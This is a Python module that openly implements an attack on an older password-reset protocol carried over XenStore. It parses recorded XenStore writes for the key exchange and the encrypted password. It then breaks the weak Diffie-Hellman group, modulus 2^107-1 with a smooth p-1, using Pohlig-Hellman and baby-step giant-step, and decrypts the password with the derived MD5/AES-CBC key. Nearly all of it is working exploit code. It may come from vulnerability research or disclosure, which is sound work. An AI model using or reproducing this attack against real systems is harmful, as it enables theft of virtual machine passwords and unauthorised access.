"""The attack on the old protocol's cryptography: a password from what an eavesdropper saw in XenStore.

The order of the group, p - 1, is a product of small primes, so a discrete logarithm is found in the subgroup of each
and put together (Pohlig and Hellman, 1978); in each it takes the square root of its order (Shanks' baby steps and
giant steps).
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import dataclass

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.padding import PKCS7

PRIME = 2**107 - 1
GENERATOR = 5
SMALL_FACTORS = (2, 3, 107, 6361, 69431, 20394401)
LARGE_FACTOR = 28059810762433
"""p - 1 is the product of these and SMALL_FACTORS; the generator's order is all of it."""

MAX_TABLE = 2**21
"""Baby steps that are kept: some 300 MB. Fewer only make it take longer."""

_REPLY = re.compile(r"(?:/local/domain/[0-9]+/)?data/guest/([0-9a-f-]{36})")
_REQUEST = re.compile(r"/local/domain/[0-9]+/data/host/([0-9a-f-]{36})")


class NothingToAttack(Exception):
    """Raised when a recording holds no key exchange of the old protocol."""


@dataclass(frozen=True)
class Reset:
    """What an eavesdropper saw of one password reset: both public numbers, and the ciphertext."""

    host_public: int
    agent_public: int
    ciphertext: bytes


def resets(written: list[tuple[str, bytes]]) -> list[Reset]:
    """The resets among recorded writes (path and value). NothingToAttack when there are none."""
    found: list[Reset] = []
    names: dict[str, tuple[str, str]] = {}
    host = agent = 0
    for path, value in written:
        request, reply = _REQUEST.fullmatch(path), _REPLY.fullmatch(path)
        if request:
            members = json.loads(value)
            names[request[1]] = members["name"], members["value"]
            if members["name"] == "password":
                found.append(Reset(host, agent, base64.b64decode(members["value"])))
        elif reply and names.get(reply[1], ("",))[0] == "keyinit":
            host, agent = int(names[reply[1]][1]), int(json.loads(value)["message"])
    if not found:
        raise NothingToAttack
    return found


def password_of(reset: Reset, exponent_bits: int) -> str:
    """The password. exponent_bits: how long the host's private number is, as far as the attacker knows."""
    exponent = discrete_log(reset.host_public, exponent_bits)
    shared = str(pow(reset.agent_public, exponent, PRIME)).encode()
    key = hashlib.md5(shared).digest()
    iv = hashlib.md5(key + shared).digest()
    decryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).decryptor()
    unpadder = PKCS7(128).unpadder()
    padded = decryptor.update(reset.ciphertext) + decryptor.finalize()
    return (unpadder.update(padded) + unpadder.finalize()).decode().removesuffix("\n")


def discrete_log(public: int, exponent_bits: int) -> int:
    """An exponent that gives this public number; the host's own, when it has at most that many bits."""
    exponent, known = 0, 1
    for factor in SMALL_FACTORS:
        cofactor = (PRIME - 1) // factor
        digit = _steps(pow(GENERATOR, cofactor, PRIME), pow(public, cofactor, PRIME), factor)
        # The Chinese remainder: the exponent is `exponent` modulo `known`, and `digit` modulo `factor`.
        exponent += known * ((digit - exponent) * pow(known, -1, factor) % factor)
        known *= factor
    # What is still missing is a multiple of `known`; for a short exponent that leaves only a few.
    rest = public * pow(GENERATOR, -exponent, PRIME) % PRIME
    left = min(LARGE_FACTOR, 2**exponent_bits // known + 1)
    return exponent + known * _steps(pow(GENERATOR, known, PRIME), rest, left)


def _steps(base: int, target: int, order: int) -> int:
    """The x below `order` for which base ** x is the target."""
    size = min(MAX_TABLE, int(order**0.5) + 1)
    table: dict[int, int] = {}
    power = 1
    for step in range(size):
        table[power] = step
        power = power * base % PRIME
    giant = pow(power, -1, PRIME)
    for stride in range(order // size + 1):
        if target in table:
            return stride * size + table[target]
        target = target * giant % PRIME
    raise AssertionError("not a power of the generator")
